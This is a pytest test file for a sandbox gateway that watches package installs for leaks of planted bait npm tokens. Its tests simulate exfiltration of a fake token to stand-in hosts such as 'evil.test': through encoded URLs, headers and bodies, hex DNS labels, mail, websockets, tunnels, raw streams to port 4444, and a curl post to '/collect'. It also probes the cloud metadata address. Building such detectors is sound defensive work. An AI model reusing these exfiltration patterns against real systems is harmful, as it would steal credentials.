"""The whole gateway: streams and datagrams in, answers and events out, in order."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import os
import socket
import ssl
import subprocess
import threading
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from contextlib import asynccontextmanager, contextmanager
from pathlib import Path
from typing import Any

import dnslib
import httpx
import pytest

from sandbox import events
from sandbox.bait import Bait, Endpoint, Token
from sandbox.gateway import channel, policy, server
from sandbox.gateway.policy import RegistryAnswer
from sandbox.gateway.server import Gateway
from sandbox.gateway.tls import CertificateAuthority
from sandbox.recorder import Recorder
from sandbox.streams import Peer

AUTHORITY = CertificateAuthority()
SECRET = "npm_q8ZkT2vYw5RbXs9LdHc3Jm7NfPa4GeUo1iKt"
BAIT = Bait(
    "npm", tokens=(Token("npm", "access token", SECRET),),
    endpoints=(Endpoint(("api.test", "169.254.169.254"), r"/user", b'{"login":"dev"}'),),
)  # fmt: skip


class Memory:
    """A stream without a socket: `play` is what the package sends, `heard` what it gets."""

    def __init__(self, address: str, port: int, process: int = 7, number: int = 1) -> None:
        self.peer = Peer(connection=number, address=address, port=port, process=process)
        self.incoming: asyncio.Queue[bytes] = asyncio.Queue()
        self.heard = bytearray()
        self.finished = False
        self.was_reset = False
        self._changed = asyncio.Event()

    async def read(self) -> bytes:
        data = await self.incoming.get()
        if data == b"reset":
            raise ConnectionResetError("gone")
        return data

    async def write(self, data: bytes) -> None:
        self.heard += data
        self._changed.set()

    async def finish(self) -> None:
        self.finished = True

    def reset(self) -> None:
        self.was_reset = True

    def say(self, *pieces: bytes) -> None:
        for piece in pieces:
            self.incoming.put_nowait(piece)

    async def until(self, ending: bytes) -> bytes:
        """What was heard, once it contains `ending`; forgotten then."""
        async with asyncio.timeout(10):
            while ending not in self.heard:
                self._changed.clear()
                await self._changed.wait()
        heard, self.heard = bytes(self.heard), bytearray()
        return heard


class Registry:
    """Serves one host: a small document and a large file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def serves(self, host: str, port: int) -> bool:
        return host == "registry.test"

    async def answer(
        self, method: str, host: str, target: str, headers: Sequence[tuple[str, str]]
    ) -> RegistryAnswer | None:
        if target == "/broken":
            raise OSError("disk on fire")
        if target.startswith("/slow"):
            await asyncio.sleep(60)
        if method not in ("GET", "HEAD") or target.startswith("/-/"):
            return None
        if target.endswith(".tgz"):
            return RegistryAnswer(200, (("Content-Type", "application/octet-stream"),), self.file, "sha512:ab")
        return RegistryAnswer(200, (("Content-Type", "application/json"), ("Date", "x")), b'{"name":"left-pad"}')


class World:
    """A gateway with its recording."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "recording.jsonl"
        self.file = folder / "a.tgz"
        self.file.write_bytes(os.urandom(1_000_000))
        self.recorder = Recorder(self.path, events.Header(), 10_000)
        self.recorder.phase = "install"
        self.gateway = Gateway(
            authority=AUTHORITY, bait=[BAIT], recorder=self.recorder, registry=Registry(self.file),
            host_name="nl-thinkpad",
        )  # fmt: skip
        self.number = 0

    def address(self, name: str) -> str:
        peer = Peer(connection=0, address="10.0.0.53", port=53, process=7)
        (reply,) = self.gateway.datagram(peer, dnslib.DNSRecord.question(name).pack())
        return str(dnslib.DNSRecord.parse(reply).a.rdata)

    @asynccontextmanager
    async def connect(self, host: str, port: int, process: int = 7) -> AsyncIterator[Memory]:
        self.number += 1
        address = host if host[0].isdigit() else self.address(host)
        stream = Memory(address, port, process, self.number)
        task = asyncio.ensure_future(self.gateway.serve(stream))
        try:
            yield stream
            stream.say(b"")
            async with asyncio.timeout(10):
                await task
        finally:
            task.cancel()

    def seen(self, *kinds: type[events.Event]) -> list[Any]:
        self.gateway.close()
        self.recorder.close()
        found = events.read(self.path).events
        return [event for event in found if not kinds or isinstance(event, kinds)]


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    made = World(tmp_path)
    yield made
    made.recorder.close()


def play(world: World, host: str, port: int, *pieces: bytes, until: bytes = b"") -> bytes:
    async def run() -> bytes:
        async with world.connect(host, port) as stream:
            stream.say(*pieces)
            return await stream.until(until) if until else b""

    return asyncio.run(run())


GET = b"GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n"


def test_plain_http_from_start_to_end(world: World) -> None:
    heard = play(world, "one.test", 80, GET % (b"/x?y=1", b"one.test", b"Accept: */*\r\n"), until=b"{}")
    assert heard.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"Date: " in heard
    name, opened, sent, closed = world.seen()[:4]
    assert (name.name, name.kind, name.server) == ("one.test", "A", "10.0.0.53")
    assert (opened.host, opened.port, opened.protocol) == ("one.test", 80, "tcp")
    assert (opened.process, opened.phase) == (7, "install")
    assert (sent.url, sent.method, sent.status, sent.answered_by) == ("http://one.test/x?y=1", "GET", 200, "empty")
    assert sent.headers == [("Host", "one.test"), ("Accept", "*/*")]
    assert closed.sent > 40
    assert closed.received == len(heard)


def test_keep_alive(world: World) -> None:
    async def run() -> None:
        async with world.connect("one.test", 8080) as stream:
            for path in (b"/1", b"/2"):
                stream.say(GET % (path, b"one.test:8080", b""))
                await stream.until(b"{}")

    asyncio.run(run())
    assert [event.url for event in world.seen(events.RequestSent)] == ["http://one.test:8080/1", "http://one.test:8080/2"]


def test_bait_in_every_place_of_a_request(world: World) -> None:
    body = gzip.compress(b"x" + SECRET.encode())
    head = b"POST /%s HTTP/1.1\r\nHost: evil.test\r\nX-K: %s\r\nContent-Length: %d\r\n\r\n"
    data = head % (SECRET.encode()[::-1], base64.b64encode(SECRET.encode()), len(body))
    play(world, "evil.test", 80, data + body, until=b"}")
    found = world.seen(events.DecoySent)
    assert {(event.where, tuple(event.encodings)) for event in found} == {
        ("url", ("reversed",)), ("header", ("base64",)), ("body", ("gzip",))}  # fmt: skip
    assert {(event.decoy, event.token, event.host, event.connection, event.process) for event in found} == {
        ("npm", "access token", "evil.test", 1, 7)}  # fmt: skip
    assert SECRET not in found[0].token


def test_a_large_body_is_looked_at_on_a_thread(world: World) -> None:
    body = os.urandom(600_000) + SECRET.encode()
    play(world, "evil.test", 80, b"PUT / HTTP/1.1\r\nHost: evil.test\r\nExpect: 100-continue\r\n"
         b"Content-Length: %d\r\n\r\n" % len(body), body, until=b"{}")  # fmt: skip
    (sent,) = world.seen(events.RequestSent)
    assert (sent.body_size, len(sent.body)) == (len(body), 65536)
    (found,) = world.seen(events.DecoySent)
    assert (found.where, found.phase) == ("body", "install")
    assert world.seen(events.SensorLost) == []


def test_what_is_skipped_is_said(world: World) -> None:
    size = 7 * 1024 * 1024
    play(world, "evil.test", 80, b"PUT / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\n\r\n" % size,
         *[bytes(1024 * 1024)] * 7, until=b"{}")  # fmt: skip
    (lost,) = world.seen(events.SensorLost)
    assert "middle of a large body" in lost.reason


def test_the_registry_is_real(world: World) -> None:
    login = b"Authorization: Bearer " + SECRET.encode() + b"\r\n"
    play(world, "registry.test", 443, GET % (b"/left-pad", b"registry.test", login), until=b'"left-pad"}')

    async def run() -> bytes:
        async with world.connect("registry.test", 443) as stream:
            stream.say(GET % (b"/a.tgz", b"registry.test", b""))
            return await stream.until(world.file.read_bytes()[-100:])

    heard = asyncio.run(run())
    assert heard.endswith(b"\r\n\r\n" + world.file.read_bytes())
    one, two = world.seen(events.RequestSent)
    assert (one.answered_by, two.answered_by) == ("registry", "registry")
    (sent,) = world.seen(events.DecoySent)
    assert (sent.host, sent.where) == ("registry.test", "header")
    (served,) = world.seen(events.ArtifactServed)
    assert (served.url, served.digest, served.size) == ("http://registry.test:443/a.tgz", "sha512:ab", 1_000_000)


def test_the_registry_is_told_from_who_pretends_to_be_it(world: World) -> None:
    play(world, "evil.test", 80, GET % (b"/?t=" + SECRET.encode(), b"registry.test", b""), until=b"{}")
    (sent,) = world.seen(events.RequestSent)
    assert (sent.answered_by, sent.url) == ("empty", f"http://evil.test/?t={SECRET}")
    assert [event.host for event in world.seen(events.DecoySent)] == ["evil.test", "registry.test"]


def test_a_registry_that_fails_is_said(world: World) -> None:
    heard = play(world, "registry.test", 80, GET % (b"/broken", b"registry.test", b""), until=b"\r\n\r\n")
    assert heard.startswith(b"HTTP/1.1 502 ")
    (lost,) = world.seen(events.SensorLost)
    assert "disk on fire" in lost.reason


def test_telling_endpoints_by_address(world: World) -> None:
    heard = play(world, "169.254.169.254", 80, GET % (b"/user", b"169.254.169.254", b""), until=b"dev")
    assert b"Content-Type: application/json" in heard
    (asked,) = world.seen(events.EndpointAsked)
    assert (asked.decoy, asked.url) == ("npm", "http://169.254.169.254/user")
    (opened,) = world.seen(events.ConnectionOpened)
    assert (opened.host, opened.address) == ("", "169.254.169.254")


def test_what_is_cut_off_is_still_seen(world: World) -> None:
    play(world, "evil.test", 80, b"POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 500\r\n\r\n" + SECRET.encode())
    (sent,) = world.seen(events.RequestSent)
    assert (sent.status, sent.body) == (0, SECRET.encode())
    assert len(world.seen(events.DecoySent)) == 1


def test_what_is_cut_off_while_we_think_is_still_seen(world: World) -> None:
    async def run() -> None:
        stream = Memory(world.address("registry.test"), 80)
        stream.say(GET % (b"/slow?t=" + SECRET.encode(), b"registry.test", b""))
        task = asyncio.ensure_future(world.gateway.serve(stream))
        await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert stream.was_reset

    asyncio.run(run())
    assert world.seen(events.RequestSent)[0].status == 0
    assert len(world.seen(events.DecoySent)) == 1
    assert len(world.seen(events.ConnectionClosed)) == 1


def test_not_http_after_all(world: World) -> None:
    heard = play(world, "evil.test", 80, b"GET / HTTP/1.1\r\nbroken\r\n\r\n", b"then " + SECRET.encode(), until=b"400")
    assert heard.startswith(b"HTTP/1.1 400 ")
    first, second = world.seen(events.DataSent)
    assert first.data == b"GET / HTTP/1.1\r\nbroken\r\n\r\n"
    assert second.data == b"then " + SECRET.encode()
    (found,) = world.seen(events.DecoySent)
    assert found.where == "data"


def test_raw_streams(world: World) -> None:
    play(world, "203.0.113.9", 4444, b"\x00\x01" + SECRET.encode()[:20], SECRET.encode()[20:])
    (sent,) = world.seen(events.DataSent)
    assert (sent.data, sent.size, sent.protocol) == (b"\x00\x01" + SECRET.encode(), 42, "tcp")
    (found,) = world.seen(events.DecoySent)
    assert (found.host, found.where, found.encodings) == ("203.0.113.9", "data", [])
    assert len(world.seen(events.ConnectionClosed)) == 1


def test_a_letter_is_taken_from_who_waits_to_be_greeted(world: World) -> None:
    async def run() -> bytes:
        async with world.connect("mx.test", 25) as stream:
            heard = await stream.until(b"220 ")
            stream.say(b"EHLO x\r\nMAIL FROM:<a@x>\r\nRCPT TO:<b@x>\r\nDATA\r\n")
            heard += await stream.until(b"354 ")
            stream.say(f"Subject: a\r\n\r\n{SECRET}\r\n.\r\nQUIT\r\n".encode())
            return heard + await stream.until(b"221 ")

    assert b"250 " in asyncio.run(run())
    (found,) = world.seen(events.DecoySent)
    assert (found.host, found.where) == ("mx.test", "data")


def test_mail_after_tls_was_asked_for(world: World) -> None:
    async def run() -> None:
        async with world.connect("mx.test", 587) as stream:
            stream.say(b"EHLO x\r\nSTARTTLS\r\n")
            await stream.until(b"go ahead")
            stream.say(b"\x16\x03\x01\x00\x05", bytes(5), SECRET.encode())

    asyncio.run(run())
    assert len(world.seen(events.DecoySent)) == 1  # it was no TLS after all
    assert world.seen(events.SensorLost) == []


def test_raw_streams_are_recorded_at_a_pause(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_PAUSE", 0.05)

    async def run() -> None:
        async with world.connect("203.0.113.9", 4444) as stream:
            stream.say(b"\x01" + base64.b64encode(SECRET.encode())[:24])
            await asyncio.sleep(0.2)
            world.recorder.phase = "linger"
            stream.say(base64.b64encode(SECRET.encode())[24:])

    asyncio.run(run())
    assert [(event.size, event.phase) for event in world.seen(events.DataSent)] == [(25, "install"), (32, "linger")]
    assert world.seen(events.DecoySent)[0].encodings == ["base64"]


def test_long_raw_streams_are_bounded_and_said(world: World) -> None:
    play(world, "203.0.113.9", 4444, b"\x01", *[bytes(500_000)] * 5, SECRET.encode())
    (sent,) = world.seen(events.DataSent)
    assert (sent.size, len(sent.data)) == (2_500_041, 65536)
    assert len(world.seen(events.DecoySent)) == 1
    assert "middle of a stream" in world.seen(events.SensorLost)[0].reason


def test_many_connections_with_a_piece_each(world: World) -> None:
    for place in range(0, len(SECRET), 8):
        play(world, "203.0.113.9", 4444, SECRET[place : place + 8].encode())
    assert len(world.seen(events.DecoySent)) == 1


def test_a_client_that_waits_for_the_server(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "IDLE", 0.05)
    play(world, "mail.test", 25)
    assert [type(event) for event in world.seen()[1:3]] == [events.ConnectionOpened, events.ConnectionClosed]


def test_a_reset_is_no_fault(world: World) -> None:
    play(world, "one.test", 80, b"POST / HTTP/1.1\r\nHost: one.test\r\nContent-Length: 5\r\n\r\nab", b"reset")
    assert world.seen(events.SensorLost) == []
    assert world.seen(events.RequestSent)[0].body == b"ab"


def test_a_fault_of_ours_is_said(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("ours")

    monkeypatch.setattr(policy, "classify", broken)
    play(world, "one.test", 80, b"hello")
    (lost,) = world.seen(events.SensorLost)
    assert (lost.sensor, "ours" in lost.reason) == ("gateway", True)


# DNS, datagrams -------------------------------------------------------------------------------------------------


def test_dns_over_tcp(world: World) -> None:
    query = dnslib.DNSRecord.question("over-tcp.test").pack()
    framed = len(query).to_bytes(2, "big") + query
    heard = play(world, "10.0.0.53", 53, framed[:5], framed[5:] + framed, until=b"over-tcp")
    assert dnslib.DNSRecord.parse(heard[2:]).a is not None
    assert [event.name for event in world.seen(events.NameLookedUp)] == ["over-tcp.test"] * 2


def test_not_dns_on_its_port(world: World) -> None:
    play(world, "10.0.0.53", 53, b"\x00\x03abc\x00\x40" + SECRET.encode())
    assert world.seen(events.DataSent)[0].data == b"\x00\x03abc\x00\x40" + SECRET.encode()
    assert len(world.seen(events.DecoySent)) == 1


def test_bait_in_names(world: World) -> None:
    text = SECRET.encode().hex()
    for place in range(0, len(text), 20):
        world.address(f"{text[place:place + 20]}.evil.test")
    (found,) = world.seen(events.DecoySent)
    assert (found.where, found.host, found.encodings) == ("dns", "evil.test", ["hex"])


def test_more_names_than_are_kept(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(world.gateway._names, "_most", 1)
    world.address("one.test")
    query = dnslib.DNSRecord.question("two.test").pack()
    world.gateway.datagram(Peer(connection=0, address="10.0.0.53", port=53), query)
    assert "more names" in world.seen(events.SensorLost)[0].reason


def test_datagrams(world: World) -> None:
    peer = Peer(connection=3, address="203.0.113.5", port=9999, process=4)
    assert world.gateway.datagram(peer, SECRET.encode()) == []
    assert world.gateway.datagram(peer, b"again") == []
    (opened,) = world.seen(events.ConnectionOpened)
    assert (opened.protocol, opened.address, opened.port) == ("udp", "203.0.113.5", 9999)
    assert [event.protocol for event in world.seen(events.DataSent)] == ["udp", "udp"]
    numbers = {event.connection for kind in (events.DataSent, events.DecoySent) for event in world.seen(kind)}
    assert numbers == {opened.connection}  # so that what was sent is known to have gone there
    assert len(world.seen(events.DecoySent)) == 1


def test_time_of_day(world: World) -> None:
    (reply,) = world.gateway.datagram(Peer(connection=0, address="203.0.113.5", port=123), b"\x23" + bytes(47))
    assert len(reply) == 48


def test_a_datagram_that_is_not_dns(world: World) -> None:
    assert world.gateway.datagram(Peer(connection=0, address="10.0.0.53", port=53), b"hello") == []
    assert world.seen(events.DataSent)[0].data == b"hello"


def test_dns_over_https(world: World) -> None:
    query = dnslib.DNSRecord.question("hidden.test").pack()
    kind = b"Content-Type: application/dns-message\r\n"
    post = b"POST /dns-query HTTP/1.1\r\nHost: doh.test\r\n" + kind + b"Content-Length: %d\r\n\r\n"
    play(world, "doh.test", 80, post % len(query) + query, until=b"hidden")
    text = base64.urlsafe_b64encode(query).rstrip(b"=")
    play(world, "doh.test", 80, GET % (b"/dns-query?dns=" + text, b"doh.test", b""), until=b"hidden")
    play(world, "doh.test", 80, GET % (b"/page?dns=none", b"doh.test", b""), until=b"{}")
    names = [event.name for event in world.seen(events.NameLookedUp)]
    assert names.count("hidden.test") == 2


# Protocols over HTTP ------------------------------------------------------------------------------------------


def test_websocket(world: World) -> None:
    async def run() -> None:
        async with world.connect("evil.test", 80) as stream:
            upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: a\r\n"
            stream.say(GET % (b"/ws", b"evil.test", upgrade))
            assert (await stream.until(b"\r\n\r\n")).startswith(b"HTTP/1.1 101 ")
            mask = b"\x01\x02\x03\x04"
            masked = bytes(code ^ mask[place % 4] for place, code in enumerate(SECRET.encode()))
            stream.say(bytes((0x81, 128 | len(masked))) + mask + masked + b"\x89\x80" + mask)
            await stream.until(b"\x8a\x00")

    asyncio.run(run())
    (sent,) = world.seen(events.DataSent)
    assert (sent.data, sent.protocol) == (SECRET.encode(), "websocket")
    assert world.seen(events.DecoySent)[0].host == "evil.test"


def test_a_tunnel(world: World) -> None:
    async def run() -> None:
        async with world.connect("proxy.test", 3128) as stream:
            stream.say(b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n")
            assert (await stream.until(b"\r\n\r\n")).startswith(b"HTTP/1.1 200 ")
            stream.say(GET % (b"/" + SECRET.encode(), b"evil.test", b""))
            await stream.until(b"{}")

    asyncio.run(run())
    outer, inner = world.seen(events.RequestSent)
    assert outer.url == "connect://evil.test:80"
    assert inner.url == f"http://evil.test/{SECRET}"
    assert world.seen(events.DecoySent)[0].host == "evil.test"


def test_tunnels_in_tunnels_end(world: World) -> None:
    play(world, "proxy.test", 80, *[b"CONNECT a.test:80 HTTP/1.1\r\nHost: a.test:80\r\n\r\n"] * 6)
    assert len(world.seen(events.RequestSent)) == 4
    assert world.seen(events.DataSent)


def test_a_request_to_a_proxy(world: World) -> None:
    play(world, "proxy.test", 3128, GET % (b"http://api.test/user", b"api.test", b""), until=b"dev")
    assert world.seen(events.RequestSent)[0].url == "http://api.test/user"
    assert world.seen(events.EndpointAsked)[0].decoy == "npm"


# TLS, with real clients -----------------------------------------------------------------------------------------


class SocketStream:
    """A stream over a real socket, as the link will be."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, address: str, number: int) -> None:
        self.peer = Peer(connection=number, address=address, port=443, process=9)
        self._reader, self._writer = reader, writer

    async def read(self) -> bytes:
        return await self._reader.read(262144)

    async def write(self, data: bytes) -> None:
        self._writer.write(data)
        await self._writer.drain()

    async def finish(self) -> None:
        if self._writer.can_write_eof():
            self._writer.write_eof()

    def reset(self) -> None:
        self._writer.transport.abort()


def with_server(world: World, client: Callable[[str], Any], host: str = "registry.test") -> Any:
    """Serve on a Unix socket (it needs no network) while `client(path)` runs on a thread."""
    address = world.address(host)

    async def run() -> Any:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            world.number += 1
            await world.gateway.serve(SocketStream(reader, writer, address, world.number))
            writer.close()

        path = str(world.path.with_name("s"))
        async with await asyncio.start_unix_server(serve, path):
            result = await asyncio.to_thread(client, path)
            others = [task for task in asyncio.all_tasks() if task is not asyncio.current_task()]
            if others:
                await asyncio.wait(others, timeout=5)
            return result

    return asyncio.run(run())


def trusting() -> ssl.SSLContext:
    return ssl.create_default_context(cadata=AUTHORITY.ca_pem.decode())


@contextmanager
def connected(path: str) -> Iterator[socket.socket]:
    with socket.socket(socket.AF_UNIX) as plain:
        plain.connect(path)
        yield plain


@contextmanager
def secured(path: str, name: str) -> Iterator[ssl.SSLSocket]:
    with connected(path) as plain, trusting().wrap_socket(plain, server_hostname=name) as secure:
        yield secure


def test_python_client(world: World) -> None:
    def client(path: str) -> bytes:
        with secured(path, "registry.test") as secure:
            secure.sendall(GET % (b"/a.tgz", b"registry.test", b"Connection: close\r\n"))
            data = b""
            while piece := secure.recv(65536):
                data += piece
            return data

    assert with_server(world, client).endswith(world.file.read_bytes())
    (ended,) = world.seen(events.TlsEnded)
    assert (ended.host, ended.error) == ("registry.test", "")
    assert world.seen(events.RequestSent)[0].url == "https://registry.test/a.tgz"
    assert world.seen(events.RequestSent)[0].answered_by == "registry"
    assert world.seen(events.SensorLost) == []


def test_httpx_client(world: World) -> None:
    def client(path: str) -> tuple[int, Any]:
        transport = httpx.HTTPTransport(verify=trusting(), uds=path)
        with httpx.Client(transport=transport) as session:
            session.post("https://registry.test/-/v1/login", json={"t": SECRET})
            answer = session.get("https://registry.test/left-pad")
            return answer.status_code, answer.json()

    assert with_server(world, client) == (200, {"name": "left-pad"})
    assert [event.connection for event in world.seen(events.RequestSent)] == [1, 1]
    assert [event.answered_by for event in world.seen(events.RequestSent)] == ["empty", "registry"]
    assert len(world.seen(events.DecoySent)) == 1


def test_curl_client(world: World, tmp_path: Path) -> None:
    authority = tmp_path / "ca.pem"
    authority.write_bytes(AUTHORITY.ca_pem)

    def client(path: str) -> bytes:
        return subprocess.run(
            ["curl", "--silent", "--show-error", "--fail", "--cacert", str(authority), "--data", "@-",
             "--unix-socket", path, "https://evil.test/collect"],
            input=json.dumps({"all": base64.b64encode(base64.b64encode(SECRET.encode())).decode()}).encode(),
            capture_output=True, check=True, timeout=20,
        ).stdout  # fmt: skip

    assert with_server(world, client, "evil.test") == b'{"ok":true}'
    (sent,) = world.seen(events.DecoySent)
    assert (sent.host, sent.where, sent.encodings) == ("evil.test", "body", ["base64", "base64"])


def test_a_pinned_certificate_shows(world: World) -> None:
    def client(path: str) -> None:
        with connected(path) as plain, pytest.raises(ssl.SSLCertVerificationError):
            ssl.create_default_context(cadata=CertificateAuthority().ca_pem.decode()).wrap_socket(
                plain, server_hostname="pinned.test"
            )

    with_server(world, client, "pinned.test")
    (ended,) = world.seen(events.TlsEnded)
    assert ended.host == "pinned.test"
    assert ended.error  # the client's alert, or its going away if that came first
    assert world.seen(events.SensorLost) == []


def test_a_name_that_differs_from_the_one_looked_up(world: World) -> None:
    def client(path: str) -> None:
        with secured(path, "registry.test") as secure:
            secure.sendall(GET % (b"/" + SECRET.encode(), b"registry.test", b"Connection: close\r\n"))
            secure.recv(100)

    with_server(world, client, "evil.test")
    (sent,) = world.seen(events.RequestSent)
    assert (sent.answered_by, sent.url) == ("empty", f"https://evil.test/{SECRET}")
    assert {event.host for event in world.seen(events.DecoySent)} == {"evil.test", "registry.test"}


def test_raw_bytes_under_tls(world: World) -> None:
    def client(path: str) -> None:
        with secured(path, "evil.test") as secure:
            secure.sendall(b"\x02" + SECRET.encode())

    with_server(world, client, "evil.test")
    (sent,) = world.seen(events.DataSent)
    assert (sent.protocol, sent.data) == ("tls", b"\x02" + SECRET.encode())
    assert len(world.seen(events.DecoySent)) == 1


def test_a_handshake_that_never_comes(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(channel, "IDLE", 0.05)
    hello = ssl.MemoryBIO()
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), hello, server_hostname="one.test")
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    play(world, "one.test", 443, hello.read())
    (ended,) = world.seen(events.TlsEnded)
    assert ended.error


@pytest.mark.parametrize("count", [300])
def test_many_at_once(world: World, count: int) -> None:
    async def run() -> None:
        async def one(number: int) -> None:
            async with world.connect(f"h{number}.test", 80, process=number) as stream:
                stream.say(GET % (b"/", f"h{number}.test".encode(), b""))
                await stream.until(b"{}")

        await asyncio.gather(*(one(number) for number in range(count)))

    asyncio.run(run())
    assert len(world.seen(events.RequestSent)) == count
    assert threading.active_count() < 20


